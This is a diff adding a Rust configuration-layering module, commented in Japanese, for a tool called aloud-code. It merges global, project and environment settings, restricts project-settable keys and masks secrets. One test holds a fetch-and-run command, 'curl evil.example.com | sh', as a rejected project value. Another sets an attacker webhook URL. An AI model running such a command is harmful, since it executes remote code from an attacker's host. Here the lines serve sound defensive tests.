@@ -0,0 +1,651 @@
+use anyhow::Result;
+use std::collections::BTreeMap;
+use std::fmt;
+use std::path::{Path, PathBuf};
+
+use crate::config::{self, Config};
+use crate::secrets;
+
+/// リポジトリにコミットするプロジェクト設定ファイル名
+pub const PROJECT_CONFIG_FILE: &str = ".aloud-code.toml";
+
+/// プロジェクト設定で指定できるキー（送信先URLなど個人の設定はグローバル設定のみ）
+/// `*` は任意の1階層にマッチする
+const PROJECT_ALLOWED_KEYS: &[&str] = &[
+    "labels",
+    "webhook.channel",
+    "destinations.*.channel",
+    "redact.patterns",
+    "redact.replacement",
+];
+
+/// `config show --effective` で値を伏せるキー（環境変数参照はそのまま表示する）
+///
+/// SlackのIncoming WebhookのようにURL自体が認証情報になる送信先があるので、URLも伏せる
+const SENSITIVE_KEYS: &[&str] = &[
+    "webhook.url",
+    "destinations.*.url",
+    "webhook.secret",
+    "webhook.bearer_token",
+    "webhook.headers.*",
+    "destinations.*.secret",
+    "destinations.*.bearer_token",
+    "destinations.*.headers.*",
+];
+
+/// 上書きではなく連結するキー（プロジェクト設定でマスク対象を減らせないようにする）
+const ADDITIVE_KEYS: &[&str] = &["redact.patterns"];
+
+/// 個別のキーを上書きする環境変数の接頭辞
+const ENV_PREFIX: &str = "ALOUD_CODE_";
+
+/// 設定キーの上書きではない、aloud-code自体が読む環境変数
+const ENV_RESERVED: &[&str] = &[
+    "ALOUD_CODE_CONFIG_FILE",
+    "ALOUD_CODE_STATE_DIR",
+    "ALOUD_CODE_DRY_RUN",
+];
+
+/// 設定値の出どころ
+#[derive(Debug, Clone, PartialEq)]
+pub enum Source {
+    Global(PathBuf),
+    Project(PathBuf),
+    Env(String),
+}
+
+impl fmt::Display for Source {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Source::Global(path) => write!(f, "global ({})", path.display()),
+            Source::Project(path) => write!(f, "project ({})", path.display()),
+            Source::Env(name) => write!(f, "env ({})", name),
+        }
+    }
+}
+
+/// 1つの設定レイヤー（後のレイヤーほど優先）
+pub struct Layer {
+    pub source: Source,
+    pub table: toml::Table,
+}
+
+/// 全レイヤーを重ねた結果と、各値の出どころ
+pub struct EffectiveConfig {
+    pub config: Config,
+    pub sources: Vec<Source>,
+    /// 読み込みは続けられるが利用者に伝えるべき問題
+    pub warnings: Vec<String>,
+    table: toml::Table,
+    origins: BTreeMap<String, Vec<Source>>,
+}
+
+impl EffectiveConfig {
+    /// グローバル設定 → プロジェクト設定 → 環境変数の順に重ねて読み込む
+    pub fn load(cwd: Option<&Path>) -> Result<Self> {
+        let mut layers = Vec::new();
+        let mut warnings = Vec::new();
+        let global = config::config_file_path()?;
+        if global.exists() {
+            let layer = read_file_layer(Source::Global(global.clone()))?;
+            if has_literal_secret(&layer.table) {
+                warnings.extend(secrets::readable_by_others_warning(&global));
+            }
+            layers.push(layer);
+        }
+        if let Some(project) = cwd.and_then(find_project_config) {
+            layers.push(read_file_layer(Source::Project(project))?);
+        }
+        let mut base = toml::Table::new();
+        for layer in &layers {
+            merge(
+                &mut base,
+                layer.table.clone(),
+                "",
+                &layer.source,
+                &mut BTreeMap::new(),
+            );
+        }
+        let (env, env_warnings) = env_layers(std::env::vars(), &base);
+        layers.extend(env);
+        warnings.extend(env_warnings);
+        let mut effective = Self::from_layers(layers)?;
+        effective.warnings = warnings;
+        Ok(effective)
+    }
+
+    pub fn from_layers(layers: Vec<Layer>) -> Result<Self> {
+        let mut table = toml::Table::new();
+        let mut origins = BTreeMap::new();
+        let mut sources = Vec::new();
+        for layer in layers {
+            if let Source::Project(path) = &layer.source {
+                check_project_keys(&layer.table, path)?;
+            }
+            merge(&mut table, layer.table, "", &layer.source, &mut origins);
+            sources.push(layer.source);
+        }
+        let config: Config = toml::Value::Table(table.clone())
+            .try_into()
+            .map_err(|e: toml::de::Error| anyhow::anyhow!("設定のマージに失敗: {}", e.message()))?;
+        Ok(EffectiveConfig {
+            config,
+            sources,
+            warnings: Vec::new(),
+            table,
+            origins,
+        })
+    }
+
+    /// マージ後の設定をTOMLとして出力し、各値の出どころをコメントで添える
+    pub fn render(&self) -> String {
+        let mut out = String::new();
+        if self.sources.is_empty() {
+            out.push_str("# (no configuration found)\n");
+        }
+        for source in &self.sources {
+            out.push_str(&format!("# layer: {}\n", source));
+        }
+        render_table(&self.table, "", &self.origins, &mut out);
+        out
+    }
+}
+
+/// `cwd` から上位ディレクトリへ向かって最初に見つかったプロジェクト設定を返す
+pub fn find_project_config(cwd: &Path) -> Option<PathBuf> {
+    cwd.ancestors()
+        .map(|dir| dir.join(PROJECT_CONFIG_FILE))
+        .find(|path| path.is_file())
+}
+
+fn read_file_layer(source: Source) -> Result<Layer> {
+    let path = match &source {
+        Source::Global(path) | Source::Project(path) => path.clone(),
+        Source::Env(_) => unreachable!("環境変数はファイルではない"),
+    };
+    let content = std::fs::read_to_string(&path)?;
+    // 不明なキーなどを行・列付きで報告するため、レイヤー単体でも検証する
+    Config::parse(&content).map_err(|e| anyhow::anyhow!("{}:{}", path.display(), e))?;
+    let table: toml::Table = toml::from_str(&content)?;
+    Ok(Layer { source, table })
+}
+
+/// レイヤー単体で平文のWebhook URLやシークレットを含んでいるか
+fn has_literal_secret(table: &toml::Table) -> bool {
+    let layer: Config = match toml::Value::Table(table.clone()).try_into() {
+        Ok(config) => config,
+        Err(_) => return false,
+    };
+    layer.has_literal_secret()
+}
+
+/// `ALOUD_CODE_*` 環境変数から、個別のキーを上書きするレイヤーを作る
+///
+/// 変数名の残りを小文字にし、`_` を `.`（階層）か `_`（キー名の一部）に読み分けて、`base` に
+/// 重ねても設定として読めるキーを探す（`ALOUD_CODE_SESSIONS_EXPIRE_AFTER_DAYS` → `sessions.expire_after_days`）。
+/// 対応するキーがない、または1つに決まらない変数は警告にして使わない
+fn env_layers(
+    vars: impl Iterator<Item = (String, String)>,
+    base: &toml::Table,
+) -> (Vec<Layer>, Vec<String>) {
+    let vars: BTreeMap<String, String> = vars.collect();
+    let mut layers = Vec::new();
+    let mut warnings = Vec::new();
+    for (name, raw) in &vars {
+        let Some(rest) = name.strip_prefix(ENV_PREFIX) else {
+            continue;
+        };
+        if ENV_RESERVED.contains(&name.as_str()) {
+            continue;
+        }
+        let source = Source::Env(name.clone());
+        let matches: Vec<(String, toml::Value)> = dotted_keys(&rest.to_lowercase())
+            .into_iter()
+            .filter_map(|key| {
+                let value = env_values(raw).into_iter().find(|value| {
+                    let mut merged = base.clone();
+                    let overlay = table_from_dotted(&key, value.clone());
+                    merge(&mut merged, overlay, "", &source, &mut BTreeMap::new());
+                    toml::Value::Table(merged).try_into::<Config>().is_ok()
+                })?;
+                Some((key, value))
+            })
+            .collect();
+        match matches.as_slice() {
+            [(key, value)] => layers.push(Layer {
+                source,
+                table: table_from_dotted(key, value.clone()),
+            }),
+            [] => warnings.push(format!(
+                "環境変数 {} に対応する設定キーがないため無視します",
+                name
+            )),
+            _ => warnings.push(format!(
+                "環境変数 {} がどの設定キーか決められないため無視します（{}）",
+                name,
+                matches
+                    .iter()
+                    .map(|(key, _)| key.as_str())
+                    .collect::<Vec<_>>()
+                    .join(", ")
+            )),
+        }
+    }
+    (layers, warnings)
+}
+
+/// `a_b_c` を `a.b.c`、`a_b.c`、`a.b_c`、`a_b_c` のように読み分けたキーの候補
+fn dotted_keys(name: &str) -> Vec<String> {
+    let parts: Vec<&str> = name.split('_').collect();
+    if parts.iter().any(|p| p.is_empty()) {
+        return Vec::new();
+    }
+    let mut keys = vec![parts[0].to_string()];
+    for part in &parts[1..] {
+        keys = keys
+            .into_iter()
+            .flat_map(|key| [format!("{}.{}", key, part), format!("{}_{}", key, part)])
+            .collect();
+    }
+    keys
+}
+
+/// 環境変数の値の解釈の候補（文字列、TOMLの値、カンマ区切りの配列の順）
+fn env_values(raw: &str) -> Vec<toml::Value> {
+    let mut values = vec![toml::Value::String(raw.to_string())];
+    if let Ok(mut table) = toml::from_str::<toml::Table>(&format!("v = {}", raw)) {
+        values.extend(table.remove("v"));
+    }
+    values.push(toml::Value::Array(
+        raw.split(',')
+            .map(str::trim)
+            .filter(|s| !s.is_empty())
+            .map(|s| toml::Value::String(s.to_string()))
+            .collect(),
+    ));
+    values
+}
+
+/// `a.b.c` 形式のキーから入れ子のテーブルを作る
+fn table_from_dotted(key: &str, value: toml::Value) -> toml::Table {
+    let mut parts: Vec<&str> = key.split('.').collect();
+    let last = parts.pop().unwrap_or(key);
+    let mut table = toml::Table::new();
+    table.insert(last.to_string(), value);
+    for part in parts.into_iter().rev() {
+        let mut outer = toml::Table::new();
+        outer.insert(part.to_string(), toml::Value::Table(table));
+        table = outer;
+    }
+    table
+}
+
+fn check_project_keys(table: &toml::Table, path: &Path) -> Result<()> {
+    let mut keys = Vec::new();
+    collect_leaf_keys(table, "", &mut keys);
+    let denied: Vec<String> = keys
+        .into_iter()
+        .filter(|k| !PROJECT_ALLOWED_KEYS.iter().any(|p| key_matches(p, k)))
+        .collect();
+    if !denied.is_empty() {
+        anyhow::bail!(
+            "{}: {} はプロジェクト設定では指定できません（指定できるキー: {}）",
+            path.display(),
+            denied.join(", "),
+            PROJECT_ALLOWED_KEYS.join(", ")
+        );
+    }
+    Ok(())
+}
+
+/// `destinations.*.channel` のようなパターンにキーがマッチするか
+fn key_matches(pattern: &str, key: &str) -> bool {
+    let pattern: Vec<&str> = pattern.split('.').collect();
+    let key: Vec<&str> = key.split('.').collect();
+    pattern.len() == key.len() && pattern.iter().zip(&key).all(|(p, k)| *p == "*" || p == k)
+}
+
+fn join_key(prefix: &str, key: &str) -> String {
+    if prefix.is_empty() {
+        key.to_string()
+    } else {
+        format!("{}.{}", prefix, key)
+    }
+}
+
+fn collect_leaf_keys(table: &toml::Table, prefix: &str, out: &mut Vec<String>) {
+    for (key, value) in table {
+        let path = join_key(prefix, key);
+        match value {
+            toml::Value::Table(inner) => collect_leaf_keys(inner, &path, out),
+            _ => out.push(path),
+        }
+    }
+}
+
+fn merge(
+    base: &mut toml::Table,
+    overlay: toml::Table,
+    prefix: &str,
+    source: &Source,
+    origins: &mut BTreeMap<String, Vec<Source>>,
+) {
+    for (key, value) in overlay {
+        let path = join_key(prefix, &key);
+        match (base.get_mut(&key), value) {
+            (Some(toml::Value::Table(base_table)), toml::Value::Table(overlay_table)) => {
+                merge(base_table, overlay_table, &path, source, origins);
+            }
+            (Some(toml::Value::Array(base_array)), toml::Value::Array(overlay_array))
+                if ADDITIVE_KEYS.contains(&path.as_str()) =>
+            {
+                base_array.extend(overlay_array);
+                origins.entry(path).or_default().push(source.clone());
+            }
+            (_, value) => {
+                let nested = format!("{}.", path);
+                origins.retain(|k, _| k != &path && !k.starts_with(&nested));
+                record_origins(&value, &path, source, origins);
+                base.insert(key, value);
+            }
+        }
+    }
+}
+
+fn record_origins(
+    value: &toml::Value,
+    path: &str,
+    source: &Source,
+    origins: &mut BTreeMap<String, Vec<Source>>,
+) {
+    match value {
+        toml::Value::Table(table) => {
+            for (key, inner) in table {
+                record_origins(inner, &join_key(path, key), source, origins);
+            }
+        }
+        _ => {
+            origins.insert(path.to_string(), vec![source.clone()]);
+        }
+    }
+}
+
+fn render_key(key: &str) -> String {
+    let bare = !key.is_empty()
+        && key
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-');
+    if bare {
+        key.to_string()
+    } else {
+        toml::Value::String(key.to_string()).to_string()
+    }
+}
+
+fn render_table(
+    table: &toml::Table,
+    prefix: &str,
+    origins: &BTreeMap<String, Vec<Source>>,
+    out: &mut String,
+) {
+    for (key, value) in table.iter().filter(|(_, v)| !v.is_table()) {
+        let path = join_key(prefix, key);
+        let origin = origins
+            .get(&path)
+            .map(|sources| {
+                sources
+                    .iter()
+                    .map(|s| s.to_string())
+                    .collect::<Vec<_>>()
+                    .join(" + ")
+            })
+            .unwrap_or_default();
+        let value = match value {
+            toml::Value::String(s)
+                if secrets::is_literal(s)
+                    && SENSITIVE_KEYS.iter().any(|p| key_matches(p, &path)) =>
+            {
+                toml::Value::String("********".to_string())
+            }
+            _ => value.clone(),
+        };
+        out.push_str(&format!("{} = {}  # {}\n", render_key(key), value, origin));
+    }
+    for (key, value) in table {
+        if let toml::Value::Table(inner) = value {
+            let path = join_key(prefix, &render_key(key));
+            out.push_str(&format!("\n[{}]\n", path));
+            render_table(inner, &join_key(prefix, key), origins, out);
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn layer(source: Source, content: &str) -> Layer {
+        Layer {
+            source,
+            table: toml::from_str(content).expect("パース失敗"),
+        }
+    }
+
+    fn global(content: &str) -> Layer {
+        layer(
+            Source::Global(PathBuf::from("/home/u/config.toml")),
+            content,
+        )
+    }
+
+    fn project(content: &str) -> Layer {
+        layer(
+            Source::Project(PathBuf::from("/repo/.aloud-code.toml")),
+            content,
+        )
+    }
+
+    #[test]
+    fn test_project_overrides_global() {
+        let effective = EffectiveConfig::from_layers(vec![
+            global("[webhook]\nurl = \"https://example.com/hook\"\nchannel = \"#me\"\n"),
+            project("labels = [\"backend\"]\n[webhook]\nchannel = \"#team\"\n"),
+        ])
+        .expect("マージ失敗");
+        let config = &effective.config;
+        assert_eq!(
+            config.webhook.url.as_deref(),
+            Some("https://example.com/hook")
+        );
+        assert_eq!(config.webhook.channel.as_deref(), Some("#team"));
+        assert_eq!(config.labels, vec!["backend"]);
+    }
+
+    #[test]
+    fn test_redact_patterns_are_additive() {
+        let effective = EffectiveConfig::from_layers(vec![
+            global("[redact]\npatterns = [\"sk-\\\\w+\"]\n"),
+            project("[redact]\npatterns = [\"ghp_\\\\w+\"]\n"),
+        ])
+        .expect("マージ失敗");
+        assert_eq!(
+            effective.config.redact.patterns,
+            vec!["sk-\\w+", "ghp_\\w+"]
+        );
+    }
+
+    #[test]
+    fn test_project_cannot_set_url() {
+        let result = EffectiveConfig::from_layers(vec![project(
+            "[webhook]\nurl = \"https://attacker.example.com\"\n",
+        )]);
+        let err = result.err().expect("URLを許可してしまった").to_string();
+        assert!(err.contains("webhook.url"), "{}", err);
+    }
+
+    #[test]
+    fn test_project_can_set_destination_channel() {
+        let effective = EffectiveConfig::from_layers(vec![
+            global("[destinations.review]\nurl = \"https://example.com/hook\"\n"),
+            project("[destinations.review]\nchannel = \"#review\"\n"),
+        ])
+        .expect("マージ失敗");
+        let review = &effective.config.destinations["review"];
+        assert_eq!(review.channel.as_deref(), Some("#review"));
+        assert_eq!(review.url.as_deref(), Some("https://example.com/hook"));
+
+        let result = EffectiveConfig::from_layers(vec![project(
+            "[destinations.review]\nurl_command = \"curl evil.example.com | sh\"\n",
+        )]);
+        assert!(result.is_err(), "url_commandを許可してしまった");
+    }
+
+    #[test]
+    fn test_env_overrides_individual_keys() {
+        let vars = vec![
+            ("ALOUD_CODE_WEBHOOK_CHANNEL".to_string(), "#env".to_string()),
+            ("ALOUD_CODE_LABELS".to_string(), "a, b,,c".to_string()),
+            (
+                "ALOUD_CODE_SESSIONS_EXPIRE_AFTER_DAYS".to_string(),
+                "3".to_string(),
+            ),
+            (
+                "ALOUD_CODE_DESTINATIONS_REVIEW_CHANNEL".to_string(),
+                "#review".to_string(),
+            ),
+            ("ALOUD_CODE_CONFIG_FILE".to_string(), "/x.toml".to_string()),
+            ("UNRELATED".to_string(), "x".to_string()),
+        ];
+        let mut layers = vec![
+            global(
+                "[webhook]\nurl = \"https://example.com/hook\"\nchannel = \"#me\"\n\
+                 [destinations.review]\nurl = \"https://example.com/review\"\n",
+            ),
+            project("labels = [\"backend\"]\n"),
+        ];
+        let (env, warnings) = env_layers(vars.into_iter(), &toml::Table::new());
+        assert!(warnings.is_empty(), "{:?}", warnings);
+        layers.extend(env);
+        let effective = EffectiveConfig::from_layers(layers).expect("マージ失敗");
+        let config = &effective.config;
+        assert_eq!(config.webhook.channel.as_deref(), Some("#env"));
+        assert_eq!(config.labels, vec!["a", "b", "c"]);
+        assert_eq!(config.sessions.expire_after_days, Some(3));
+        assert_eq!(
+            config.destinations["review"].channel.as_deref(),
+            Some("#review")
+        );
+        assert_eq!(
+            config.webhook.url.as_deref(),
+            Some("https://example.com/hook")
+        );
+    }
+
+    #[test]
+    fn test_env_without_matching_key_is_ignored() {
+        let vars = vec![
+            ("ALOUD_CODE_WEBHOOK_CHANEL".to_string(), "#typo".to_string()),
+            (
+                "ALOUD_CODE_SESSIONS_EXPIRE_AFTER_DAYS".to_string(),
+                "soon".to_string(),
+            ),
+        ];
+        let (env, warnings) = env_layers(vars.into_iter(), &toml::Table::new());
+        assert!(env.is_empty());
+        assert_eq!(warnings.len(), 2, "{:?}", warnings);
+        assert!(warnings[1].contains("ALOUD_CODE_WEBHOOK_CHANEL"));
+    }
+
+    #[test]
+    fn test_dotted_keys() {
+        assert_eq!(dotted_keys("labels"), vec!["labels"]);
+        assert_eq!(
+            dotted_keys("a_b_c"),
+            vec!["a.b.c", "a.b_c", "a_b.c", "a_b_c"]
+        );
+        assert!(dotted_keys("a__b").is_empty());
+    }
+
+    #[test]
+    fn test_render_shows_source_of_each_value() {
+        let mut layers = vec![
+            global("[webhook]\nurl = \"https://example.com/hook\"\n"),
+            project("[webhook]\nchannel = \"#team\"\n"),
+        ];
+        let (env, _) = env_layers(
+            vec![("ALOUD_CODE_LABELS".to_string(), "x".to_string())].into_iter(),
+            &toml::Table::new(),
+        );
+        layers.extend(env);
+        let rendered = EffectiveConfig::from_layers(layers).unwrap().render();
+        assert!(rendered.contains("labels = [\"x\"]  # env (ALOUD_CODE_LABELS)"));
+        assert!(rendered.contains("url = \"********\"  # global (/home/u/config.toml)"));
+        assert!(rendered.contains("channel = \"#team\"  # project (/repo/.aloud-code.toml)"));
+        // 描画結果自体もTOMLとして読める
+        assert!(Config::parse(&rendered).is_ok(), "{}", rendered);
+    }
+
+    #[test]
+    fn test_render_masks_credentials() {
+        let rendered = EffectiveConfig::from_layers(vec![global(
+            "[webhook]\nurl = \"https://example.com/hook\"\nbearer_token = \"t0ken\"\n\
+             [webhook.headers]\nX-Tenant = \"acme\"\n\
+             [destinations.ingest]\nurl = \"https://example.com/ingest\"\nsecret = \"${env:INGEST_SECRET}\"\n",
+        )])
+        .unwrap()
+        .render();
+        assert!(!rendered.contains("t0ken"), "{}", rendered);
+        assert!(!rendered.contains("example.com"), "{}", rendered);
+        assert!(!rendered.contains("acme"), "{}", rendered);
+        assert!(
+            rendered.contains("bearer_token = \"********\""),
+            "{}",
+            rendered
+        );
+        assert!(rendered.contains("X-Tenant = \"********\""), "{}", rendered);
+        // 環境変数参照は秘密ではないので表示する
+        assert!(
+            rendered.contains("secret = \"${env:INGEST_SECRET}\""),
+            "{}",
+            rendered
+        );
+        let rendered = EffectiveConfig::from_layers(vec![global(
+            "[webhook]\nurl = \"${env:SLACK_URL}\"\n\n[destinations.vault]\nurl_command = \"pass show hook\"\n",
+        )])
+        .unwrap()
+        .render();
+        assert!(
+            rendered.contains("url = \"${env:SLACK_URL}\""),
+            "{}",
+            rendered
+        );
+        assert!(
+            rendered.contains("url_command = \"pass show hook\""),
+            "{}",
+            rendered
+        );
+    }
+
+    #[test]
+    fn test_project_cannot_set_headers() {
+        let result = EffectiveConfig::from_layers(vec![project(
+            "[webhook.headers]\nAuthorization = \"Bearer x\"\n",
+        )]);
+        assert!(
+            result.is_err(),
+            "プロジェクト設定でヘッダーを許可してしまった"
+        );
+    }
+
+    #[test]
+    fn test_find_project_config_walks_up() {
+        let temp_dir = tempfile::TempDir::new().expect("一時ディレクトリ作成失敗");
+        let nested = temp_dir.path().join("a").join("b");
+        std::fs::create_dir_all(&nested).unwrap();
+        assert_eq!(find_project_config(&nested), None);
+
+        let project_file = temp_dir.path().join(PROJECT_CONFIG_FILE);
+        std::fs::write(&project_file, "labels = [\"x\"]\n").unwrap();
+        assert_eq!(find_project_config(&nested), Some(project_file));
+    }
+}